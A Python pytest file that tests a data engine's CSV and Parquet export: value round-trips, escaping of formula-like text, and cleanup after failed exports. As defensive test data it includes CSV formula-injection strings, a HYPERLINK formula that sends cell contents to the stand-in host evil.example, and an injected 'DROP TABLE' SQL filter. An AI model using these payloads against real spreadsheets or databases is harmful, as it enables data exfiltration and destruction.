"""Export: what goes out comes back in unchanged, formula-like text is defused in CSV, and a failed export
leaves no file behind."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from typing import Any

import duckdb
import polars as pl
import pytest

from engine import Campaign, ExportError, NotFoundError, QueryError, Workspace, frame_to_csv
from engine.sql.sandbox import open_sandbox

FIDELITY_SPEC = """
campaign: {name}
columns:
  - {{name: n, kind: input, type: BIGINT}}
  - {{name: text, kind: input}}
  - {{name: amount, kind: input, type: DOUBLE}}
  - {{name: day, kind: input, type: DATE}}
  - {{name: at, kind: input, type: TIMESTAMP}}
  - {{name: flag, kind: input, type: BOOLEAN}}
  - {{name: shout, kind: formula, expression: "upper(text)"}}
"""
TRICKY: list[dict[str, Any]] = [
    {
        "n": 9007199254740993,
        "text": "👩‍💻 東京 שלום e\u0301",
        "amount": 0.1,
        "day": dt.date(1, 1, 1),
        "at": dt.datetime(2024, 2, 29, 23, 59, 59, 999999),
        "flag": True,
    },
    {"n": -42, "text": "", "amount": -1e-300, "day": dt.date(9999, 12, 31), "at": None, "flag": False},
    {"n": None, "text": None, "amount": None, "day": None, "at": dt.datetime(1970, 1, 1), "flag": None},
    {
        "n": 0,
        "text": 'He said "hi", then left',
        "amount": 1.5e300,
        "day": dt.date(2000, 2, 29),
        "at": dt.datetime(2000, 1, 1, 0, 0, 0, 1),
        "flag": True,
    },
    {
        "n": 7,
        "text": "line one\nline two\r\nline three",
        "amount": 3.0,
        "day": dt.date(2024, 1, 1),
        "at": None,
        "flag": False,
    },
    {"n": 8, "text": "  padded, with a comma  ", "amount": -0.0, "day": None, "at": None, "flag": None},
    {"n": 9, "text": "NULL", "amount": 2.5, "day": None, "at": None, "flag": None},
]


def fidelity(ws: Workspace, name: str) -> Campaign:
    ws.apply(FIDELITY_SPEC.format(name=name))
    return ws.campaign(name)


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_round_trip_keeps_every_value(ws: Workspace, tmp_path: Path, fmt: str) -> None:
    source = fidelity(ws, "source")
    source.add_rows(TRICKY)
    exported = source.export(tmp_path / f"out.{fmt}", escape=False)
    assert (exported.rows, exported.columns[:2]) == (len(TRICKY), ["row_id", "n"])
    copy = fidelity(ws, "copy")
    copy.import_file(exported.path, skip=("row_id", "shout"))
    assert copy.values().equals(source.values())
    assert copy.values()["text"].to_list() == [r["text"] for r in TRICKY]


def test_wide_and_long_files_round_trip(ws: Workspace, tmp_path: Path) -> None:
    ws.apply("campaign: wide\ncolumns:\n  - {name: c0, kind: input, type: BIGINT}\n")
    wide = ws.campaign("wide")
    source = tmp_path / "wide.parquet"
    columns = ", ".join(
        [
            f"i + {k} AS c{k}"
            if k % 3 == 0
            else f"'v' || (i * {k}) AS c{k}"
            if k % 3 == 1
            else f"(i / {k})::DOUBLE AS c{k}"
            for k in range(60)
        ]
    )
    with duckdb.connect() as con:
        con.execute(f"COPY (SELECT {columns} FROM range(20000) t(i)) TO '{source}' (FORMAT parquet)")
    report = wide.import_file(source)
    assert (len(report.inserted), len(report.added_columns)) == (20000, 59)
    for fmt in ("csv", "parquet"):
        out = wide.export(tmp_path / f"back.{fmt}").path
        with duckdb.connect() as con:
            reader = "read_csv" if fmt == "csv" else "read_parquet"
            differing = con.execute(
                f"SELECT count(*) FROM ((SELECT * FROM '{source}' EXCEPT ALL SELECT * EXCLUDE (row_id) "
                f"FROM {reader}('{out}')) UNION ALL (SELECT * EXCLUDE (row_id) FROM {reader}('{out}') "
                f"EXCEPT ALL SELECT * FROM '{source}'))"
            ).fetchall()[0][0]
            assert differing == 0, fmt


INJECTION_SPEC = """
campaign: inj
columns:
  - {name: note, kind: input}
  - {name: score, kind: input, type: BIGINT}
  - {name: link, kind: formula, expression: "'=HYPERLINK(\\"http://evil.example/?q=' || note ||
  '\\",\\"Click\\")'"}
"""
NOTES = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tTAB", "\rCR", "safe", "a=b", "", None]
ESCAPED = ["'=1+1", "'+SUM(A1)", "'-2+3", "'@cmd", "'\tTAB", "'\rCR", "safe", "a=b", "", ""]


def test_formula_like_text_is_escaped_in_csv_and_kept_in_parquet(ws: Workspace, tmp_path: Path) -> None:
    ws.apply(INJECTION_SPEC)
    campaign = ws.campaign("inj")
    campaign.add_rows([{"note": note, "score": -5} for note in NOTES])
    out = campaign.export(tmp_path / "out.csv").path
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["note"] for r in rows] == ESCAPED
    assert rows[0]["link"] == '\'=HYPERLINK("http://evil.example/?q==1+1","Click")'
    assert all(r["link"].startswith("'=HYPERLINK(") for r in rows[:-1]) and rows[-1]["link"] == ""
    assert {r["score"] for r in rows} == {"-5"}  # numbers are numbers, not text to defuse
    raw = pl.read_parquet(campaign.export(tmp_path / "out.parquet").path)
    assert raw["note"].to_list() == NOTES and raw["link"][0].startswith("=HYPERLINK(")
    queried = tmp_path / "q.csv"
    assert ws.query_to_file("SELECT row_id, note FROM inj ORDER BY row_id", queried) == len(NOTES)
    with queried.open(encoding="utf-8", newline="") as handle:
        assert [r["note"] for r in csv.DictReader(handle)] == ESCAPED
    text = frame_to_csv(pl.DataFrame({"i": range(len(NOTES)), "note": NOTES}))
    assert [row["note"] for row in csv.DictReader(text.splitlines(keepends=True))] == ESCAPED
    assert frame_to_csv(pl.DataFrame({"note": ["=1"]}), escape=False) == "note\n=1\n"


def test_a_failed_export_leaves_the_old_file_and_no_temporary(basic: Campaign, tmp_path: Path) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    target = folder / "keep.csv"
    target.write_text("precious\n", encoding="utf-8")
    with pytest.raises(QueryError) as caught:
        basic.export(target, where="no_such_column = 1")
    assert 'Referenced column "no_such_column" not found' in str(caught.value)
    with pytest.raises(QueryError):
        basic.export(target, where="1 = 1; DROP TABLE cells")
    with pytest.raises(NotFoundError):
        basic.export(target, columns=["email", "nope"])
    with pytest.raises(ExportError) as missing:
        basic.export(folder / "absent" / "out.csv")
    assert "no folder" in str(missing.value) and missing.value.hint == "create the folder first"
    with pytest.raises(ExportError):
        basic.export(folder / "out.xlsx")
    assert target.read_text(encoding="utf-8") == "precious\n"
    assert sorted(p.name for p in folder.iterdir()) == ["keep.csv"]


def test_state_columns_and_where_over_any_column(basic: Campaign, tmp_path: Path) -> None:
    out = basic.export(
        tmp_path / "state.csv", columns=["first", "research"], with_state=True, where="employees > 20"
    ).path
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert list(rows[0]) == [
        "row_id",
        "first",
        "research",
        "research.status",
        "research.error_code",
        "research.error_message",
        "research.credits",
    ]
    assert [(r["row_id"], r["first"], r["research.status"]) for r in rows] == [
        ("1", "Ann", "queued"),
        ("2", "Bob", "queued"),
    ]
    filtered = basic.export(tmp_path / "q.parquet", with_state=True, where="\"opener_length.status\" = 'waiting'")
    assert filtered.rows == 3


def test_columns_out_of_row_order_are_joined_and_sorted(ws: Workspace, basic: Campaign, tmp_path: Path) -> None:
    with open_sandbox(ws.db.path) as box:
        before = box.layout("t")
    first_table = next(c.table for c in before.columns if c.name == "first")
    assert first_table in before.aligned
    with ws.db.transaction() as con:  # what a delete-and-append rewrite of one cell does to a table's order
        con.execute(f"DELETE FROM {first_table} WHERE row_id = 1")
        con.execute(f"INSERT INTO {first_table} VALUES (1, 'Ann')")
    with open_sandbox(ws.db.path) as box:
        after = box.layout("t")
    assert first_table not in after.aligned and len(after.aligned) == len(before.aligned) - 1
    out = pl.read_parquet(basic.export(tmp_path / "o.parquet", columns=["first", "email"]).path)
    assert out.rows() == [
        (1, "Ann", "ann@acme.com"),
        (2, "Bob", "bob@globex.io"),
        (3, "Cy", "cy@initech.org"),
    ]
    assert ws.query("SELECT row_id, first FROM t ORDER BY row_id").rows() == [
        (1, "Ann"),
        (2, "Bob"),
        (3, "Cy"),
    ]
